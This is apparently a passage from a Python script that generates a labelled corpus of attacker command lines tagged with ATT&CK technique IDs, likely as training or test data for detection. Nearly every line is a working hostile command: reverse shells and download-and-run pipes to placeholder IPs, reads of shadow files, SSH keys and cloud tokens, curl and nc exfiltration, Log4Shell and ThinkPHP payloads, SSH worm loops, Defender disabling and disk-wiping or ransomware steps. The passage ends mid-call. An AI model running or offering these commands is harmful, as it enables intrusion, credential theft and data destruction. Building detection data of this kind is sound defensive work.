    ch(s, 120, "sh -i >& /dev/udp/203.0.113.9/53 0>&1", ["T1059.004"])
    ch(s, 150, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
       ["T1059.004", "T1059.004", ("T1059.004", ["T1059.004", "T1059.004", "T1095"])], whole="T1059.004")
    ch(s, 130, "nc 203.0.113.9 4444 -e /bin/bash", ["T1095"])
    ch(s, 100, "nc -lvnp 31337 -e /bin/sh &", ["T1095"])
    ch(s, 90, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4443", ["T1095"])
    ch(s, 80, "perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'",
       ["T1059"])
    ch(s, 70, "php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", ["T1059"])
    one(s, 300, "T1059.004", "bash", "/bin/bash", "sh x.sh", "bash -s", "./x.sh", "/tmp/.x/run.sh")
    one(s, 120, "T1059.004", "./run", "./x86_64", "./kswapd0", "./.x", "sh -c ./run")
    one(s, 80, "T1059.006", "python3 p.py", "python x.py", "python3 -m http.server 8000")
    ch(s, 60, "perl ircbot.pl", ["T1059"])
    ch(s, 40, "nohup perl ircbot.pl >/dev/null 2>&1 &", ["T1059"])
    ch(s, 400, "cd /tmp", ["T1059.004"])
    one(s, 200, "T1059.004", "cd /var/tmp", "cd /dev/shm", "cd ~")
    ch(s, 130, "chmod +x x.sh; ./x.sh", ["T1222.002", "T1059.004"], whole="T1059.004")
    ch(s, 120, "wget http://203.0.113.7/x.sh", ["T1105"])
    one(s, 100, "T1105", "curl -O http://203.0.113.7/x.sh", "wget -q http://198.51.100.14/kswapd0",
        "curl -o /tmp/.x http://198.51.100.14/x", "tftp -g -r x.sh 203.0.113.7", "ftpget -v -u anonymous -p a 203.0.113.7 x.sh x.sh")
    ch(s, 60, "scp -P 2222 u@203.0.113.80:/srv/kit.tgz /tmp/", ["T1105"])
    ch(s, 50, "git clone https://git.example/n0p/brute.git", ["T1588.002"])
    ch(s, 45, "pip install paramiko pysftp", ["T1105"])
    ch(s, 40, "apt-get install -y masscan nmap", ["T1105"])

    # --- Privilege escalation ---------------------------------------------------------------------------
    s = "linux-privesc"
    ch(s, 200, "find / -perm -4000 -type f 2>/dev/null", ["T1548.001"])
    ch(s, 120, "find / -perm -u=s -type f 2>/dev/null", ["T1548.001"])
    ch(s, 60, "find / -perm -g=s -type f 2>/dev/null", ["T1548.001"])
    ch(s, 50, "chmod u+s /bin/bash", ["T1548.001"])
    ch(s, 45, "cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b; /tmp/.b -p",
       ["T1548.001", "T1548.001", "T1548.001"], whole="T1548.001")
    ch(s, 80, "sudo su", ["T1548.003"])
    one(s, 60, "T1548.003", "sudo -i", "sudo /bin/bash", "sudo -u#-1 /bin/bash")
    ch(s, 40, "sudo vim -c ':!/bin/sh'", ["T1548.003"])
    ch(s, 70, "su -", ["T1078.003"])
    one(s, 40, "T1078.003", "su root", "su - admin")
    one(s, 70, "T1068", "./pwnkit", "./dirtypipe /usr/bin/su", "./exploit", "python3 CVE-2021-4034.py",
        "./cve-2021-3156 0")
    ch(s, 60, "wget http://203.0.113.7/pwnkit -O /tmp/pk; chmod +x /tmp/pk; /tmp/pk",
       ["T1105", "T1222.002", "T1068"], whole="T1068")
    ch(s, 50, "curl -L http://203.0.113.7/linpeas.sh | sh", [("T1082", ["T1105", "T1082"])])
    ch(s, 40, "./linpeas.sh -a > /dev/shm/.lp", ["T1082"])
    ch(s, 40, "docker run -v /:/mnt --rm -it alpine chroot /mnt sh", ["T1611"])
    ch(s, 30, "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", ["T1611"])
    ch(s, 30, "getcap -r / 2>/dev/null", ["T1548"])

    # --- Credential access ------------------------------------------------------------------------------
    s = "linux-cred-access"
    ch(s, 450, "cat /etc/shadow", ["T1003.008"])
    ch(s, 90, "cat /etc/shadow | grep -v '*' | grep -v '!'", ["T1003.008"])
    ch(s, 70, "unshadow /etc/passwd /etc/shadow > /tmp/h.txt", ["T1003.008"])
    ch(s, 60, "cp /etc/shadow /tmp/.s", ["T1003.008"])
    one(s, 50, "T1110.002", "john /tmp/h.txt --wordlist=pass.txt", "hashcat -m 1800 -a 0 h.txt rockyou.txt")
    ch(s, 60, "python3 mimipenguin.py", ["T1003.007"])
    ch(s, 50, "./mimipenguin.sh", ["T1003.007"])
    ch(s, 40, "strings /proc/$(pgrep -f 'sshd: root')/environ", ["T1003.007"])
    ch(s, 45, "strace -f -p $(pgrep -f 'sshd: ' | head -n 1) -e trace=read,write -o /tmp/.s.log", ["T1056"])
    ch(s, 160, "cat ~/.bash_history", ["T1552.003"])
    one(s, 90, "T1552.003", "cat /root/.bash_history", "cat ~/.mysql_history", "cat /home/*/.bash_history")
    ch(s, 80, "grep -iE 'pass|pwd|token' ~/.bash_history", ["T1552.003"])
    ch(s, 120, "grep -rn 'password' /etc/ 2>/dev/null", ["T1552.001"])
    ch(s, 110, "grep -ri 'password' /var/www/ 2>/dev/null", ["T1552.001"])
    ch(s, 100, "cat /var/www/html/wp-config.php | grep DB_", ["T1552.001"])
    one(s, 90, "T1552.001", "cat ~/.aws/credentials", "cat /var/www/html/.env", "cat ~/.git-credentials",
        "cat ~/.docker/config.json", "cat ~/.my.cnf", "cat /root/.pgpass", "cat ~/.kube/config")
    ch(s, 70, "find / -name '*.env' -o -name 'wp-config.php' -o -name 'config.php' 2>/dev/null", ["T1552.001"])
    ch(s, 60, "cat /var/run/secrets/kubernetes.io/serviceaccount/token", ["T1552.001"])
    ch(s, 60, "env | grep -iE 'key|secret|token|pass'", ["T1552"])
    ch(s, 140, "find / -name id_rsa 2>/dev/null", ["T1552.004"])
    ch(s, 100, "find / -name '*.pem' -o -name '*.key' 2>/dev/null", ["T1552.004"])
    one(s, 90, "T1552.004", "cat ~/.ssh/id_rsa", "cat /root/.ssh/id_rsa", "cat /home/*/.ssh/id_rsa",
        "ls -la ~/.ssh/")
    ch(s, 80, "curl -s http://instance-data/latest/meta-data/iam/security-credentials/", ["T1552.005"])
    ch(s, 60, "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
       ["T1552.005"])
    ch(s, 70, "tcpdump -i eth0 -w /tmp/.cap port 21 or port 23 or port 110", ["T1040"])
    ch(s, 40, "tcpdump -i any -A -s0 'tcp port 80' | grep -i 'pass'", [("T1040", ["T1040", "T1040"])])

    # --- Brute force and scanning from the compromised host ----------------------------------------------
    s = "scan-and-brute"
    ch(s, 260, "nohup ./brute 22 -t 500 -f pass.txt >/dev/null 2>&1 &", ["T1110.001"])
    ch(s, 200, "./ssh-scan 198.51.100 22 && ./brute -p pass.txt", ["T1046", "T1110.001"], whole="T1110.001")
    ch(s, 140, "hydra -L users.txt -P pass.txt ssh://198.51.100.40 -t 4", ["T1110.001"])
    ch(s, 90, "medusa -h 198.51.100.41 -U u.txt -P p.txt -M ssh", ["T1110.001"])
    ch(s, 60, "ncrack -p 22 -U users.txt -P pass.txt 198.51.100.0/24", ["T1110.001"])
    ch(s, 70, "crackmapexec ssh 198.51.100.0/24 -u root -p 'Winter2024!'", ["T1110.003"])
    ch(s, 60, "./spray -U users.txt -p 'Summer2024!' -f hosts.txt", ["T1110.003"])
    ch(s, 240, "./masscan 0.0.0.0/0 -p22,2375,6379 --rate 20000 -oL /tmp/.m --exclude 255.255.255.255",
       ["T1595.001"])
    ch(s, 150, "./zmap -p 6379 -o /tmp/r.txt -B 50M", ["T1595.001"])
    ch(s, 110, "nohup ./pscan 22 198.51 > /dev/null 2>&1 &", ["T1595.001"])
    ch(s, 100, "nmap -sS -p 22,80,443,3306,6379 198.51.100.0/24", ["T1046"])
    ch(s, 80, "nmap -sn 192.0.2.0/24", ["T1018"])
    ch(s, 70, "for i in $(seq 1 254); do ping -c 1 -W 1 192.0.2.$i | grep 'bytes from' & done",
       ["T1018", ("T1018", ["T1018", "T1018"])], whole="T1018")
    ch(s, 50, "nc -zv 198.51.100.23 1-1024 2>&1 | grep succeeded", [("T1046", ["T1046", "T1046"])])
    ch(s, 50, "curl -s -H 'X-Api-Version: ${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/aWQ=}' http://198.51.100.61:8080/",
       ["T1190"])
    ch(s, 45, "curl -s 'http://198.51.100.62/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id'",
       ["T1190"])
    ch(s, 40, "redis-cli -h 198.51.100.63 config set dir /root/.ssh", ["T1210"])
    ch(s, 35, "redis-cli -h 198.51.100.63 -x set crackit < /tmp/key.txt", ["T1210"])

    # --- Lateral movement over SSH ---------------------------------------------------------------------
    s = "ssh-lateral"
    ch(s, 150, "ssh -o StrictHostKeyChecking=no -i ~/.ssh/id_rsa root@198.51.100.23 'curl -s http://203.0.113.45/cr.sh | sh'",
       ["T1021.004"])
    ch(s, 130, "for h in $(grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}' ~/.ssh/known_hosts); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@$h 'wget -q -O- http://203.0.113.45/cr.sh | sh' & done",
       ["T1018", "T1021.004"], whole="T1021.004")
    ch(s, 90, "for h in $(cat /etc/hosts | awk '{print $1}'); do ssh -oBatchMode=yes root@$h 'uname -a'; done",
       ["T1018", "T1021.004"], whole="T1021.004")
    ch(s, 120, "sshpass -p 'admin123' ssh -o StrictHostKeyChecking=no admin@198.51.100.24", ["T1021.004"])
    one(s, 100, "T1021.004", "ssh root@198.51.100.23", "ssh -i /tmp/.k deploy@192.0.2.31",
        "ssh -p 2222 admin@198.51.100.24", "scp /tmp/x root@198.51.100.23:/tmp/",
        "scp -o StrictHostKeyChecking=no -i ~/.ssh/id_rsa kswapd0 root@198.51.100.25:/usr/bin/")
    ch(s, 60, "rsync -az /tmp/.x/ deploy@192.0.2.31:/tmp/.x/", ["T1570"])
    ch(s, 70, "grep -E '^(ssh|scp) ' ~/.bash_history", ["T1018"])
    ch(s, 50, "cat ~/.ssh/config", ["T1018"])
    ch(s, 40, "SSH_AUTH_SOCK=/tmp/ssh-XXXXk3Jd/agent.1432 ssh-add -l", ["T1563.001"])
    ch(s, 35, "SSH_AUTH_SOCK=/tmp/ssh-XXXXk3Jd/agent.1432 ssh deploy@192.0.2.31", ["T1563.001"])

    # --- Tunnels, proxies and C2 ------------------------------------------------------------------------
    s = "linux-tunnel"
    ch(s, 110, "./frpc -c frpc.ini", ["T1090"])
    ch(s, 100, "nohup ./gost -L=socks5://:10800 > /dev/null 2>&1 &", ["T1090"])
    ch(s, 80, "ssh -D 1080 -N -f tun@203.0.113.80", ["T1090"])
    ch(s, 70, "socat TCP4-LISTEN:8443,fork TCP4:192.0.2.31:22 &", ["T1090.001"])
    ch(s, 90, "ssh -R 2222:localhost:22 tun@203.0.113.80 -N -f", ["T1572"])
    ch(s, 80, "./ngrok tcp 22 --authtoken 2Xq9LmFakeTokenK3", ["T1572"])
    ch(s, 70, "./chisel client 203.0.113.80:8080 R:socks", ["T1572"])
    ch(s, 50, "iodine -f -P Xq9t tun.c2.example", ["T1572"])
    ch(s, 60, "dig +short TXT cmd.c2.example", ["T1071.004"])
    ch(s, 55, "while true; do curl -s http://203.0.113.9/t | sh; sleep 60; done",
       ["T1071.001", ("T1071.001", ["T1071.001", "T1059.004"]), "T1071.001"], whole="T1071.001")
    ch(s, 50, "./kaiten 203.0.113.55 6667 '#chan'", ["T1071"])
    ch(s, 45, "nohup ./.x/ircd -s 203.0.113.55 -p 6697 &", ["T1071"])
    ch(s, 40, "./agent -connect 203.0.113.80:8443 -s Kz93", ["T1571"])

    # --- Collection and exfiltration ------------------------------------------------------------------
    s = "linux-collection"
    ch(s, 70, "tar czf /tmp/.d.tgz /var/www/html /etc/nginx", ["T1560.001"])
    ch(s, 60, "zip -r -P infected /tmp/w.zip /home/*/Documents", ["T1560.001"])
    ch(s, 50, "tar -czf - /home/deploy | openssl enc -aes-256-cbc -k Kx7 -out /tmp/.h.enc",
       [("T1560.001", ["T1560.001", "T1560.001"])])
    ch(s, 60, "mysqldump -u root -p'Sup3rDB!' --all-databases > /tmp/db.sql", ["T1005"])
    ch(s, 40, "pg_dumpall -U postgres > /tmp/pg.sql", ["T1005"])
    ch(s, 45, "find /home -name '*.kdbx' -o -name '*.pdf' -o -name '*.xlsx' 2>/dev/null", ["T1083"])
    ch(s, 40, "find / -name '*.sql' -size +10M 2>/dev/null", ["T1083"])
    ch(s, 40, "mkdir -p /tmp/.st && cp -r /home/deploy/.ssh /var/www/html/.env /tmp/.st/",
       ["T1074.001", "T1074.001"], whole="T1074.001")
    ch(s, 35, "find /home -name '*.pdf' -exec cp {} /tmp/.st/ \\;", ["T1119"])

    s = "linux-exfil"
    ch(s, 60, "curl -F 'file=@/tmp/.d.tgz' http://203.0.113.45/up.php", ["T1048.003"])
    ch(s, 50, "curl -s -X POST --data-binary @/etc/shadow http://203.0.113.9/c", ["T1041"])
    ch(s, 45, "nc 203.0.113.9 9001 < /tmp/db.sql", ["T1048.003"])
    ch(s, 45, "scp /tmp/.d.tgz u@203.0.113.80:/srv/", ["T1048.002"])
    ch(s, 40, "rclone copy /var/backups remote:bk --transfers 8", ["T1567.002"])
    ch(s, 40, "curl --upload-file /tmp/db.sql https://transfer.example/db.sql", ["T1567.002"])
    ch(s, 30, "curl -X POST -H 'Content-Type: application/json' -d @/tmp/.env.json https://hooks.chat.example/services/T0/B0/x",
       ["T1567.004"])
    ch(s, 30, "curl -T /tmp/k.elf ftp://203.0.113.80/pub/ --user anonymous:a", ["T1608.001"])
    ch(s, 25, "scp -P 2222 ./bot.x86_64 u@203.0.113.81:/var/www/html/bins/", ["T1608.001"])
    ch(s, 30, "tar czf - /var/www | ssh u@203.0.113.80 'cat > www.tgz'",
       [("T1048.002", ["T1560.001", "T1048.002"])])

    # --- Impact -----------------------------------------------------------------------------------------
    s = "ddos-bot"
    ch(s, 110, "./hping3 --flood -S -p 80 198.51.100.77", ["T1498.001"])
    ch(s, 90, "perl ddos.pl 198.51.100.77 80 1500 600", ["T1498.001"])
    ch(s, 80, "./t -u 198.51.100.77 -p 53 -t 600", ["T1498.001"])
    ch(s, 50, "python3 slowloris.py 198.51.100.78 -s 500", ["T1499.002"])

    s = "linux-ransomware"
    ch(s, 40, "esxcli vm process list", ["T1057"])
    ch(s, 40, "vim-cmd vmsvc/getallvms", ["T1082"])
    ch(s, 35, "esxcli vm process kill --type=force --world-id=2103542", ["T1489"])
    ch(s, 35, "for i in $(vim-cmd vmsvc/getallvms | awk '{print $1}' | grep -E '^[0-9]+$'); do vim-cmd vmsvc/power.off $i; done",
       ["T1082", "T1489"], whole="T1489")
    ch(s, 30, "esxcli system syslog config set --logdir=/tmp", ["T1685"])
    ch(s, 30, "vim-cmd hostsvc/autostartmanager/enable_autostart false", ["T1490"])
    ch(s, 35, "./encryptor --path /vmfs/volumes --ext .lck", ["T1486"])
    ch(s, 30, "nohup ./encrypt /vmfs/volumes/datastore1 > /dev/null 2>&1 &", ["T1486"])
    ch(s, 30, "find /var/www -type f -exec openssl enc -aes-256-cbc -salt -in {} -out {}.enc -k Kx7Lq2 \\;",
       ["T1486"])
    ch(s, 25, "echo 'YOUR FILES ARE ENCRYPTED. Contact recover@mail.example' > /root/README_RESTORE.txt", ["T1486"])
    ch(s, 30, "systemctl stop mysql; systemctl stop postgresql; systemctl stop nginx",
       ["T1489"] * 3, whole="T1489")
    one(s, 25, "T1489", "service mysql stop", "systemctl stop docker", "killall -9 java")
    ch(s, 30, "rm -rf /var/backups/* /backup/*", ["T1490"])
    ch(s, 25, "rm -rf /var/lib/mysql/*", ["T1485"])
    ch(s, 25, "rm -rf / --no-preserve-root", ["T1485"])
    ch(s, 20, "dd if=/dev/zero of=/dev/sda bs=1M", ["T1561.001"])
    ch(s, 20, "dd if=/dev/zero of=/dev/sda bs=512 count=1", ["T1561.002"])
    ch(s, 25, "passwd -l ubuntu; passwd -l admin", ["T1531", "T1531"], whole="T1531")
    one(s, 20, "T1531", "userdel -r deploy", 'echo "ubuntu:L0ck3d0ut!" | chpasswd')
    one(s, 60, "T1529", "reboot", "shutdown -h now", "init 6", "shutdown -r now")
    ch(s, 20, "echo '<h1>hacked</h1>' > /var/www/html/index.html", ["T1491.002"])


# ---------------------------------------------------------------------------------------------------------
# Windows: hands-on-keyboard intrusions, ransomware operators, commodity loaders
# ---------------------------------------------------------------------------------------------------------

def windows(c, f):
    one, ch = c.one, c.chain

    # --- First look around after a shell or an RDP session ---------------------------------------------
    s = "win-hands-on-keyboard"
    one(s, 1400, "T1033", "whoami")
    one(s, 700, "T1033", "whoami /all")
    one(s, 420, "T1033", "whoami /groups", "whoami /priv", "whoami /user")
    one(s, 380, "T1033", "quser", "query user", "qwinsta", "query session")
    one(s, 300, "T1033", "echo %USERNAME%", "$env:USERNAME", "[Security.Principal.WindowsIdentity]::GetCurrent().Name")
    one(s, 650, "T1082", "systeminfo", "hostname")
    ch(s, 380, 'systeminfo | findstr /B /C:"OS Name" /C:"OS Version" /C:"System Type"', ["T1082"])
    ch(s, 220, 'systeminfo | findstr /i "domain"', ["T1082"])
    one(s, 240, "T1082", "wmic os get caption,version,osarchitecture", "wmic computersystem get domain,manufacturer,model",
        "wmic qfe list brief", "ver", "set", "echo %USERDOMAIN%", "wmic logicaldisk get caption,description,providername")
    one(s, 150, "T1082", "Get-ComputerInfo", "Get-WmiObject -Class Win32_OperatingSystem",
        "Get-CimInstance Win32_ComputerSystem", "[System.Environment]::OSVersion", "Get-PSDrive", "Get-HotFix",
        "fsutil fsinfo drives", "wmic bios get serialnumber")
    one(s, 600, "T1016", "ipconfig /all")
    one(s, 320, "T1016", "ipconfig", "route print", "arp -a", "ipconfig /displaydns", "netsh interface show interface",
        "Get-NetIPConfiguration", "Get-NetIPAddress", "nbtstat -n", "netsh interface ip show config")
    ch(s, 160, 'ipconfig /all | findstr /i "IPv4 DNS"', ["T1016"])
    one(s, 120, "T1016", "net config workstation", "nltest /dsgetsite")
    ch(s, 90, "ping -n 1 198.51.100.53", ["T1016.001"])
    ch(s, 70, "Test-NetConnection -ComputerName www.example.com -Port 443", ["T1016.001"])
    one(s, 80, "T1016.002", "netsh wlan show profiles", 'netsh wlan show profile name="CorpWiFi" key=clear')
    one(s, 500, "T1049", "netstat -ano")
    one(s, 220, "T1049", "netstat -an", "net use", "net session", "Get-NetTCPConnection -State Established",
        "netstat -anob")
    ch(s, 200, "netstat -ano | findstr ESTABLISHED", ["T1049"])
    ch(s, 150, 'netstat -ano | findstr ":3389"', ["T1049"])
    one(s, 480, "T1057", "tasklist")
    one(s, 260, "T1057", "tasklist /v", "Get-Process", "wmic process get name,processid,executablepath",
        "wmic process list brief", "ps")
    ch(s, 140, 'tasklist /fi "imagename eq lsass.exe"', ["T1057"])
    ch(s, 120, 'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10', ["T1057"])
    one(s, 180, "T1007", "tasklist /svc", "sc query", "sc query state= all", "net start", "wmic service list brief",
        "Get-Service")
    ch(s, 110, 'Get-Service | Where-Object {$_.Status -eq "Running"}', ["T1007"])
    ch(s, 160, 'tasklist | findstr /i "MsMpEng sophos csfalcon SentinelAgent cb.exe"',
       [("T1518.001", ["T1057", "T1518.001"])])
    one(s, 140, "T1518.001", r"wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName /format:list",
        "Get-MpComputerStatus", "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct",
        'sc query windefend', r'dir "C:\Program Files\CrowdStrike"')
    ch(s, 90, 'Get-MpPreference | Select-Object -ExpandProperty ExclusionPath', ["T1518.001"])
    one(s, 150, "T1518", "wmic product get name,version", r'dir "C:\Program Files"', r'dir "C:\Program Files (x86)"')
    ch(s, 100, r"Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\* | Select-Object DisplayName,DisplayVersion",
       ["T1518"])
    ch(s, 60, r'reg query "HKLM\SOFTWARE\Veeam\Veeam Backup and Replication"', ["T1518.002"])
    ch(s, 50, 'Get-Service | Where-Object {$_.DisplayName -like "*Veeam*" -or $_.DisplayName -like "*Backup*"}',
       [("T1518.002", ["T1007", "T1518.002"])])
    one(s, 420, "T1087.001", "net user", "net user administrator", "wmic useraccount get name,sid", "Get-LocalUser")
    one(s, 360, "T1069.001", "net localgroup administrators", 'net localgroup "Remote Desktop Users"', "net localgroup",
        "Get-LocalGroupMember Administrators")
    one(s, 140, "T1124", "net time", "time /t", "w32tm /tz", "Get-Date")
    one(s, 90, "T1614.001", "Get-Culture", "Get-WinSystemLocale", "chcp",
        r'reg query "HKLM\SYSTEM\CurrentControlSet\Control\Nls\Language" /v InstallLanguage')
    one(s, 250, "T1083", "dir", r"dir C:\Users", r"dir C:\Users\Public", r"cd C:\ProgramData", "cd %TEMP%",
        r"tree C:\Users /F", r"dir /a C:\ProgramData")
    ch(s, 120, r"dir /s /b C:\Users\*password*", ["T1083"])
    ch(s, 90, r"Get-ChildItem -Path C:\Users -Recurse -Include *.kdbx,*.rdp,*.config -ErrorAction SilentlyContinue",
       ["T1083"])
    ch(s, 50, r'dir "%LOCALAPPDATA%\Google\Chrome\User Data\Default"', ["T1217"])
    one(s, 200, "T1012", r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName',
        r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        r"reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
        r'reg query "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections',
        r"reg query HKCU\Software\Microsoft\Terminal Server Client\Servers")
    one(s, 60, "T1120", "wmic path Win32_PnPEntity get name", "Get-PnpDevice -PresentOnly")
    ch(s, 40, "driverquery /v", ["T1652"])
    ch(s, 40, "wevtutil qe Security /c:20 /rd:true /f:text /q:*[System[(EventID=4624)]]", ["T1654"])
    ch(s, 380, "whoami & hostname & ipconfig /all & net user & net localgroup administrators",
       ["T1033", "T1082", "T1016", "T1087.001", "T1069.001"], whole="T1033")
    ch(s, 250, "whoami /all && systeminfo && ipconfig /all && netstat -ano",
       ["T1033", "T1082", "T1016", "T1049"], whole="T1082")
    ch(s, 220, "cmd.exe /c whoami & ipconfig & tasklist", ["T1033", "T1016", "T1057"], whole="T1033")
    ch(s, 150, "systeminfo > C:\\ProgramData\\si.txt & tasklist /v >> C:\\ProgramData\\si.txt & netstat -ano >> C:\\ProgramData\\si.txt",
       ["T1082", "T1057", "T1049"], whole="T1082")
    ch(s, 100, "hostname; whoami; Get-NetIPAddress | Select-Object IPAddress; Get-Process",
       ["T1082", "T1033", ("T1016", ["T1016", "T1016"]), "T1057"], whole="T1082")
    ch(s, 90, "for /f %i in ('net localgroup administrators') do @echo %i", ["T1069.001"])

    # --- Active Directory discovery ---------------------------------------------------------------------
    s = "ad-recon"
    one(s, 560, "T1087.002", "net user /domain")
    one(s, 200, "T1087.002", "net user jsmith /domain", "net user svc_backup /domain",
        "Get-ADUser -Filter * -Properties * | Select-Object SamAccountName,LastLogonDate,Enabled",
        'dsquery user -limit 0', "wmic useraccount where domain='CORP' get name")
    one(s, 600, "T1069.002", 'net group "domain admins" /domain')
    one(s, 260, "T1069.002", 'net group "enterprise admins" /domain', "net group /domain",
        'net group "Domain Admins" /dom', 'Get-ADGroupMember "Domain Admins" -Recursive',
        'net localgroup administrators /domain', 'net group "Exchange Trusted Subsystem" /domain')
    one(s, 300, "T1018", 'net group "domain controllers" /domain', 'net group "domain computers" /domain', "net view",
        "net view /all /domain", "nltest /dsgetdc:corp.example", "echo %logonserver%", "nslookup dc01.corp.example",
        "ping -n 1 FS01", 'dsquery computer -limit 0')
    ch(s, 120, "Get-ADComputer -Filter * -Properties OperatingSystem | Select-Object Name,OperatingSystem,IPv4Address",
       ["T1018"])
    ch(s, 90, '([adsisearcher]"objectCategory=computer").FindAll() | ForEach-Object { $_.Properties.name }',
       ["T1018"])
    ch(s, 80, 'for /L %i in (1,1,254) do @ping -n 1 -w 100 192.0.2.%i | find "TTL="',
       [("T1018", ["T1018", "T1018"])])
    one(s, 400, "T1482", "nltest /dclist:corp.example", "nltest /domain_trusts")
    one(s, 180, "T1482", "nltest /domain_trusts /all_trusts", "nltest /dclist:", "Get-ADTrust -Filter *",
        "([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()")
    one(s, 160, "T1201", "net accounts", "net accounts /domain", "Get-ADDefaultDomainPasswordPolicy")
    one(s, 120, "T1124", "net time /domain", r"net time \\dc01")
    one(s, 240, "T1135", "net share", r"net view \\FS01 /all", r"net view \\192.0.2.20", "Get-SmbShare")
    ch(s, 90, "Invoke-ShareFinder -CheckShareAccess -Verbose | Out-File -Encoding ascii C:\\ProgramData\\shares.txt",
       [("T1135", ["T1135", "T1135"])])
    ch(s, 180, 'adfind.exe -f "(objectcategory=person)" > ad_users.txt', ["T1087.002"])
    ch(s, 170, 'adfind.exe -f "objectcategory=computer" > ad_computers.txt', ["T1018"])
    ch(s, 160, 'adfind.exe -f "(objectcategory=organizationalUnit)" > ad_ous.txt', ["T1087.002"])
    ch(s, 160, "adfind.exe -sc trustdmp > trustdmp.txt", ["T1482"])
    ch(s, 150, 'adfind.exe -subnets -f (objectCategory=subnet) > subnets.txt', ["T1016"])
    ch(s, 150, 'adfind.exe -f "(objectcategory=group)" > ad_group.txt', ["T1069.002"])
    ch(s, 140, "adfind.exe -gcb -sc trustdmp > trustdmp.txt", ["T1482"])
    ch(s, 120, r'C:\ProgramData\AdFind.exe -f "(objectcategory=person)" samaccountname > C:\ProgramData\u.txt',
       ["T1087.002"])
    ch(s, 110, "SharpHound.exe -c All --zipfilename corp.zip", ["T1087.002"])
    ch(s, 90, "Invoke-BloodHound -CollectionMethod All -OutputDirectory C:\\ProgramData", ["T1087.002"])
    ch(s, 80, r"C:\ProgramData\sh.exe --CollectionMethods Session,LoggedOn --Loop", ["T1087.002"])
    ch(s, 100, 'netscan.exe /hide /auto:"result.xml" /config:netscan.xml /range:192.0.2.1-192.0.2.254', ["T1046"])
    ch(s, 90, 'advanced_ip_scanner.exe /portable "C:/ProgramData/ais/" /lng en_us', ["T1046"])
    ch(s, 70, "nmap -sV -p 445,3389,5985 192.0.2.0/24 -oN scan.txt", ["T1046"])
    ch(s, 60, "Test-NetConnection 192.0.2.20 -Port 445", ["T1046"])
    ch(s, 50, "1..1024 | % {echo ((New-Object Net.Sockets.TcpClient).Connect('192.0.2.20',$_)) \"Port $_ open\"} 2>$null",
       [("T1046", ["T1046", "T1046"])])
    ch(s, 120, "setspn -T corp.example -Q */*", ["T1558.003"])
    ch(s, 80, "setspn -Q MSSQLSvc/*", ["T1558.003"])
    ch(s, 150, "cmdkey /list", ["T1555.004"])

    # --- Execution -------------------------------------------------------------------------------------
    s = "win-execution"
    scripts = [
        ("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')", 420),
        ("Invoke-WebRequest http://198.51.100.23/s.exe -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe", 260),
        ("iex ((New-Object System.Net.WebClient).DownloadString('https://cdn.update-check.example/p.ps1'))", 240),
        ("$c=New-Object Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream()", 130),
        ("Start-Sleep 5; rundll32 C:\\ProgramData\\upd.dll,Start", 90),
        ("Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData", 110),
        ("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }", 70),
    ]
    for i, (scr, w) in enumerate(scripts):
        flags = ["-nop -w hidden -enc", "-NoP -NonI -W Hidden -Exec Bypass -Enc", "-nop -w hidden -encodedcommand",
                 "-ep bypass -enc", "-w 1 -enc", "-noni -nop -w hidden -e", "-enc"][i]
        ch(s, w, f"powershell {flags} {ps_enc(scr)}", ["T1059.001"])
    ch(s, 130, r"powershell.exe -nop -w hidden -noni -c " + '"' + "if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'}" + '"',
       ["T1059.001"])
    ch(s, 300, "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\"",
       ["T1059.001"])
    ch(s, 200, "powershell -nop -c \"iex(iwr http://198.51.100.23/r -UseBasicParsing)\"", ["T1059.001"])
    ch(s, 180, r"powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\s.ps1", ["T1059.001"])
    ch(s, 100, r"powershell -ep bypass -f C:\Users\Public\inv.ps1", ["T1059.001"])
    ch(s, 90, "powershell -ep bypass", ["T1059.001"])
    ch(s, 80, "Set-ExecutionPolicy Bypass -Scope Process -Force", ["T1059.001"])
    ch(s, 70, r"Import-Module C:\ProgramData\PowerView.ps1", ["T1059.001"])
    ch(s, 60, r". .\Invoke-Kerberoast.ps1", ["T1059.001"])
    ch(s, 40, "powershell -version 2 -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')\"",
       ["T1689"])
    ch(s, 150, r"cmd.exe /c C:\ProgramData\svc.bat", ["T1059.003"])
    one(s, 100, "T1059.003", r"cmd /c start /b C:\Users\Public\run.exe", r'start "" C:\ProgramData\x.exe',
